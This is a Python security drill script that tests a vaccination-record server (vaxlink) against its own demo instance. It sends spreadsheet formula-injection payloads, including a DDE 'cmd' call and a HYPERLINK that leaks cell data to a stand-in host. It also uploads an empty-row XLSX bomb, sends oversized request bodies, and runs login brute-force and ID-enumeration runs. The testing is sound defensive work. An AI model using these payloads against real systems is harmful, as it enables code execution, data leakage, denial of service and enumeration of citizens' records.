"""Drill: the outside attack of issue 16, run again against a running server, with its figures.

    uv run vaxlink demo --workdir DIR && uv run vaxlink users demo          # (with DIR's settings)
    uv run vaxlink serve --demo DIR --port P &
    uv run python bench/drill_outside_attack.py --url http://127.0.0.1:P --demo DIR --pid SERVER_PID \
        --password phuong_a=... [--password phuong_b=...]

Each drill prints what it sent, the answer (status, time), the server's resident memory before and at its
peak during the drill (`--pid`, from /proc), and whether a file was left in the server's upload folder or the
system's temporary folder, beside the target:

1. formula injection: names `=HYPERLINK(...)`, `=1+1`, `+cmd|...`, `@SUM(...)` uploaded through the API;
   none is a live formula in the answer CSV or XLSX;
2. a 287 KB XLSX of 2 M empty rows: answered at once, refused by the worker in seconds, `/healthz` answering
   meanwhile;
3. 1 GB POSTed without credentials to the upload: 401 before the body is read, nothing on disk;
4. 300 MB to `/login` and `/self/code` (declared and chunked): 413 before the body is read;
5. an upload past the size limit (declared), and a refused upload (not what its name says): nothing left;
6. lockouts: wrong passwords from another address never lock out the right password from a known one;
   unknown names are answered as known ones;
7. lookup enumeration: a number alone is refused, a wrong birth date answers as no record, a run of
   neighbouring numbers pauses the verifier, the rate per verifier holds.

Tokens come from `vaxlink users token` with the demo directory's settings; nothing here needs the server's
code. The last line is every figure as JSON.
"""

from __future__ import annotations

import argparse
import http.client
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import zipfile
from pathlib import Path
from typing import Any

VAXLINK = str(Path(sys.executable).with_name("vaxlink"))
FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1;2)"]
HEADER = "record_id,full_name,date_of_birth,sex,id_number,ward_code,vaccination_date,dose_number,vaccine\n"


class Server:
    def __init__(self, url: str, pid: int | None) -> None:
        u = urllib.parse.urlsplit(url)
        self.host, self.port, self.pid = u.hostname or "127.0.0.1", u.port or 80, pid

    def rss_mb(self) -> float | None:
        if not self.pid:
            return None
        try:
            for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    return round(int(line.split()[1]) / 1024, 1)
        except OSError:
            return None
        return None

    def request(
        self,
        method: str,
        path: str,
        body: bytes | None = None,
        headers: dict[str, str] | None = None,
        source: str = "127.0.0.1",
    ) -> tuple[int, dict[str, str], bytes, float]:
        conn = http.client.HTTPConnection(self.host, self.port, timeout=120, source_address=(source, 0))
        t = time.perf_counter()
        try:
            conn.request(method, path, body=body, headers=headers or {})
            r = conn.getresponse()
            data = r.read()
            return r.status, {k.lower(): v for k, v in r.getheaders()}, data, time.perf_counter() - t
        finally:
            conn.close()


class Peak(threading.Thread):
    """The server's peak RSS while a drill runs."""

    def __init__(self, server: Server) -> None:
        super().__init__(daemon=True)
        self.server, self.peak, self.stop = server, server.rss_mb() or 0.0, threading.Event()

    def run(self) -> None:
        while not self.stop.wait(0.05):
            self.peak = max(self.peak, self.server.rss_mb() or 0.0)

    def __enter__(self) -> Peak:
        self.before = self.server.rss_mb()
        self.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stop.set()
        self.join(2)


def files_under(*folders: Path) -> int:
    return sum(1 for f in folders if f.exists() for p in f.rglob("*") if p.is_file())


def spooled(server: Server) -> int | None:
    """Files the server holds open that are deleted already (a spooled request body), SQLite's own temporary
    files aside."""
    if not server.pid:
        return None
    fds = Path(f"/proc/{server.pid}/fd")
    try:
        targets = [os.readlink(f) for f in fds.iterdir()]
    except OSError:
        return None
    return sum(1 for t in targets if t.endswith("(deleted)") and "etilqs_" not in t)


def multipart(name: str, content: bytes, fields: dict[str, str] | None = None) -> tuple[bytes, str]:
    b = "drill" + os.urandom(6).hex()
    parts = [
        f'--{b}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
        for k, v in (fields or {}).items()
    ]
    parts.append(
        f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n".encode()
        + content
        + f"\r\n--{b}--\r\n".encode()
    )
    return b"".join(parts), f"multipart/form-data; boundary={b}"


def empty_rows_xlsx(rows: int = 2_000_000) -> bytes:
    """A workbook whose sheet holds `rows` empty rows after a header: a few kilobytes packed."""
    sheet = io.StringIO()
    sheet.write(
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheetData><row r="1">'
    )
    for i, h in enumerate(HEADER.strip().split(",")):
        sheet.write(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>')
    sheet.write("</row>")
    sheet.write("<row/>" * rows)  # rows without their number follow the one before
    sheet.write("</sheetData></worksheet>")
    out = io.BytesIO()
    ns = "http://schemas.openxmlformats.org"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(
            "[Content_Types].xml",
            f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{ns}/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{ns}/spreadsheetml/2006/main" '
            f'xmlns:r="{ns}/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        )
        z.writestr("xl/worksheets/sheet1.xml", sheet.getvalue())
    return out.getvalue()


def curl_stream(server: Server, path: str, size: int, headers: list[str], declared: bool) -> dict[str, Any]:
    """POST `size` zero bytes with curl, streamed (declared length, or chunked): status, time, bytes the
    server took before it answered."""
    cmd = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{time_total} %{size_upload}", "-X", "POST"]
    for h in headers:
        cmd += ["-H", h]
    url = f"http://{server.host}:{server.port}{path}"
    if declared:
        with tempfile.NamedTemporaryFile(dir=tempfile.gettempdir()) as f:
            f.truncate(size)  # sparse: nothing written to the disk
            out = subprocess.run([*cmd, "-T", f.name, url], capture_output=True, text=True, check=False)
    else:
        feed = subprocess.Popen(["head", "-c", str(size), "/dev/zero"], stdout=subprocess.PIPE)
        out = subprocess.run(
            # Without `Expect: 100-continue`: curl would report the server's 100 as the answer when the
            # server closes after its early 413 while curl is still sending.
            [*cmd, "-H", "Transfer-Encoding: chunked", "-H", "Expect:", "-T", "-", url],
            stdin=feed.stdout,
            capture_output=True,
            text=True,
            check=False,
        )
        feed.kill()
    code, seconds, sent = [*out.stdout.split(), "0", "0", "0"][:3]
    return {"status": int(code), "s": round(float(seconds), 3), "body_bytes_sent": int(float(sent))}


def wait_batch(server: Server, token: str, url: str, timeout: float = 300) -> tuple[dict[str, Any], float]:
    t = time.perf_counter()
    while True:
        _, _, body, _ = server.request("GET", url, headers={"authorization": f"Bearer {token}"})
        b = json.loads(body)
        if b.get("status") in ("done", "failed") or time.perf_counter() - t > timeout:
            return b, time.perf_counter() - t
        time.sleep(0.5)


def drill_formulas(server: Server, health: str, ward: str) -> dict[str, Any]:
    rows = [
        f"fx{i},{json.dumps(v)},01/01/1970,Nam,,{ward},2021-10-01,1,Pfizer" for i, v in enumerate(FORMULAS)
    ]
    csv_text = HEADER + "\n".join(r.replace('\\"', '""') for r in rows) + "\n"
    body, ctype = multipart("formulas.csv", csv_text.encode())
    with Peak(server) as p:
        status, _, data, secs = server.request(
            "POST", "/api/v1/batches", body, {"authorization": f"Bearer {health}", "content-type": ctype}
        )
        b, waited = wait_batch(server, health, json.loads(data)["status_url"])
        live = 0
        for fmt in ("csv", "xlsx"):
            _, _, got, _ = server.request(
                "GET",
                f"/api/v1/batches/{b['id']}/answer?format={fmt}",
                headers={"authorization": f"Bearer {health}"},
            )
            if fmt == "csv":
                live += sum(1 for line in got.decode("utf-8-sig").splitlines() if re.search(r",[=+@-]", line))
            else:
                with zipfile.ZipFile(io.BytesIO(got)) as z:
                    xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
                live += xml.count("<f>") + len(re.findall(r"<t[^>]*>[=+@]", xml))
    return {
        "upload_status": status,
        "upload_s": round(secs, 3),
        "batch": b["status"],
        "processed_s": round(waited, 1),
        "live_formulas": live,
        "rss_mb": [p.before, p.peak],
        "target": "0 live formulas",
    }


def drill_empty_rows(server: Server, health: str, work: Path) -> dict[str, Any]:
    book = empty_rows_xlsx()
    body, ctype = multipart("trong.xlsx", book)
    health_waits: list[float] = []
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            health_waits.append(server.request("GET", "/healthz")[3])
            time.sleep(0.1)

    with Peak(server) as p:
        t = threading.Thread(target=probe, daemon=True)
        t.start()
        status, _, data, secs = server.request(
            "POST", "/api/v1/batches", body, {"authorization": f"Bearer {health}", "content-type": ctype}
        )
        b, waited = wait_batch(server, health, json.loads(data)["status_url"])
        stop.set()
        t.join(5)
    return {
        "file_kb": round(len(book) / 1024),
        "upload_status": status,
        "upload_s": round(secs, 3),
        "batch": b["status"],
        "refused_after_s": round(waited, 1),
        "error_en": (b.get("counts") or {}).get("error_en"),
        "healthz_max_s": round(max(health_waits or [0]), 3),
        "healthz_n": len(health_waits),
        "rss_mb": [p.before, p.peak],
        "files_left": files_under(work / "uploads"),
        "target": "refused in seconds, /healthz answering, no file left",
    }


def drill_big_bodies(server: Server, work: Path) -> dict[str, Any]:
    out: dict[str, Any] = {}
    before = files_under(work / "uploads")
    with Peak(server) as p:
        out["anonymous_1GB_upload_chunked"] = curl_stream(
            server,
            "/api/v1/batches",
            1 << 30,
            ["Content-Type: multipart/form-data; boundary=x"],
            declared=False,
        )
        out["anonymous_1GB_upload_declared"] = curl_stream(
            server,
            "/api/v1/batches",
            1 << 30,
            ["Content-Type: multipart/form-data; boundary=x"],
            declared=True,
        )
        for path in ("/login", "/self/code"):
            for declared in (True, False):
                out[f"{path}_300MB_{'declared' if declared else 'chunked'}"] = curl_stream(
                    server,
                    path,
                    300 << 20,
                    ["Content-Type: application/x-www-form-urlencoded"],
                    declared=declared,
                )
    out["rss_mb"] = [p.before, p.peak]
    out["upload_files_left"] = files_under(work / "uploads") - before
    out["server_spooled_files_open"] = spooled(server)
    out["target"] = "401/413 before the body is read (bytes sent ≪ body), nothing on disk"
    return out


def drill_refused_uploads(server: Server, health: str, work: Path) -> dict[str, Any]:
    out: dict[str, Any] = {}
    with Peak(server) as p:
        out["declared_2.1GB"] = curl_stream(
            server,
            "/api/v1/batches",
            (2 << 30) + (100 << 20),
            ["Content-Type: multipart/form-data; boundary=x", f"Authorization: Bearer {health}"],
            declared=True,
        )
        # 200 MB that is not the workbook its name says: stored, refused by the worker, removed.
        big = b"PK\x03\x04" + os.urandom(1 << 20) * 200
        body, ctype = multipart("to.xlsx", big)
        status, _, data, secs = server.request(
            "POST", "/api/v1/batches", body, {"authorization": f"Bearer {health}", "content-type": ctype}
        )
        b, waited = wait_batch(server, health, json.loads(data)["status_url"])
        out["refused_200MB"] = {
            "status": status,
            "s": round(secs, 2),
            "batch": b["status"],
            "refused_after_s": round(waited, 1),
        }
    out["rss_mb"] = [p.before, p.peak]
    out["upload_files_left"] = files_under(work / "uploads")
    out["server_spooled_files_open"] = spooled(server)
    out["target"] = "413 before the body for the declared one; the refused one removed"
    return out


def login(server: Server, user: str, password: str, source: str) -> tuple[int, float]:
    status, headers, page, _ = server.request("GET", "/login", source=source)
    token = re.search(rb'name="login_csrf" value="([^"]+)"', page)
    cookie = "; ".join(c.split(";", 1)[0] for k, c in [("set-cookie", headers.get("set-cookie", ""))] if c)
    form = urllib.parse.urlencode(
        {"username": user, "password": password, "login_csrf": token.group(1).decode() if token else ""}
    ).encode()
    status, _, _, secs = server.request(
        "POST",
        "/login",
        form,
        {"content-type": "application/x-www-form-urlencoded", "cookie": cookie},
        source=source,
    )
    return status, round(secs, 3)


def drill_lockouts(server: Server, user: str, password: str, other: str | None) -> dict[str, Any]:
    out: dict[str, Any] = {"known_address_first": login(server, user, password, "127.0.0.1")}
    out["wrong_from_127.0.0.2"] = [login(server, user, "sai-mat-khau-01", "127.0.0.2")[0] for _ in range(10)]
    out["right_from_known_address"] = login(server, user, password, "127.0.0.1")
    out["right_from_new_address_127.0.0.3"] = login(server, user, password, "127.0.0.3")
    known = other or user
    out["known_name_wrong_x8_from_127.0.0.4"] = [
        login(server, known, "sai-1", "127.0.0.4")[0] for _ in range(8)
    ]
    out["unknown_name_wrong_x8_from_127.0.0.5"] = [
        login(server, "khong_co_ai", "sai-1", "127.0.0.5")[0] for _ in range(8)
    ]
    out["target"] = "the right password from a known address never refused; unknown names answered alike"
    return out


def drill_lookups(server: Server, verifier: str, people: list[tuple[str, str]]) -> dict[str, Any]:
    h = {"authorization": f"Bearer {verifier}", "content-type": "application/json"}

    def ask(payload: dict[str, str]) -> tuple[int, float]:
        s, _, _, secs = server.request("POST", "/api/v1/lookup/status", json.dumps(payload).encode(), h)
        return s, round(secs, 3)

    pid, dob = people[0]
    out: dict[str, Any] = {
        "right_number_and_birth_date": ask({"text": pid, "date_of_birth": dob}),
        "number_alone": ask({"text": pid}),
        "wrong_birth_date": ask({"text": pid, "date_of_birth": "1901-01-01"}),
        "number_not_in_register": ask({"text": "099999999999", "date_of_birth": dob}),
    }
    base = int(people[1][0])
    run = [ask({"text": f"{base + 11 * k:012d}", "date_of_birth": dob})[0] for k in range(1, 10)]
    out["neighbouring_numbers_x9"] = run
    out["after_the_run"] = ask({"text": people[2][0], "date_of_birth": people[2][1]})
    out["target"] = (
        "number alone refused (422); wrong birth date answered as no record (404); the 9th neighbouring "
        "number and what follows 429"
    )
    return out


def cli(env: dict[str, str], *args: str) -> str:
    r = subprocess.run([VAXLINK, *args], env=env, capture_output=True, text=True, check=False)
    if r.returncode:
        raise SystemExit(f"vaxlink {args[0]} failed: {r.stderr[-500:]}")
    return r.stdout


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--url", required=True)
    ap.add_argument("--demo", type=Path, required=True)
    ap.add_argument("--pid", type=int)
    ap.add_argument("--password", action="append", default=[], help="user=password of the demo's users")
    ap.add_argument("--only", default="", help="comma-separated drills to run (default: all)")
    args = ap.parse_args()
    demo = args.demo.resolve()
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("VAXLINK_")},
        "VAXLINK_DATABASE_URL": f"sqlite:///{demo / 'vaxlink.db'}",
        "VAXLINK_WORK_DIR": str(demo / "work"),
        "VAXLINK_AUDIT_KEY_FILE": str(demo / "work" / "audit.key"),
    }
    token = {u: cli(env, "users", "token", u).split()[-1] for u in ("yte_tinh", "kiem_tra")}
    passwords = dict(p.split("=", 1) for p in args.password)
    server = Server(args.url, args.pid)
    import sqlite3

    db = sqlite3.connect(f"file:{demo / 'vaxlink.db'}?mode=ro", uri=True)
    people = [
        (str(r[0]), str(r[1]))
        for r in db.execute(
            "SELECT personal_id, birth_date FROM citizen WHERE birth_precision = 'day' AND personal_id IS NOT NULL "
            "ORDER BY id LIMIT 3"
        )
    ]
    ward = db.execute(
        "SELECT code FROM admin_unit WHERE level = 'ward' AND province_code = '77' LIMIT 1"
    ).fetchone()[0]
    db.close()
    work = demo / "work"
    only = {d for d in args.only.split(",") if d}
    drills = {
        "formulas": lambda: drill_formulas(server, token["yte_tinh"], ward),
        "empty_rows": lambda: drill_empty_rows(server, token["yte_tinh"], work),
        "big_bodies": lambda: drill_big_bodies(server, work),
        "refused_uploads": lambda: drill_refused_uploads(server, token["yte_tinh"], work),
        "lockouts": lambda: drill_lockouts(
            server, "phuong_a", passwords.get("phuong_a", ""), "phuong_b" if "phuong_b" in passwords else None
        ),
        "lookups": lambda: drill_lookups(server, token["kiem_tra"], people),
    }
    results: dict[str, Any] = {}
    for name, run in drills.items():
        if only and name not in only:
            continue
        results[name] = run()
        print(f"== {name}: {json.dumps(results[name], ensure_ascii=False)}", flush=True)
    print(json.dumps(results, ensure_ascii=False))


if __name__ == "__main__":
    main()
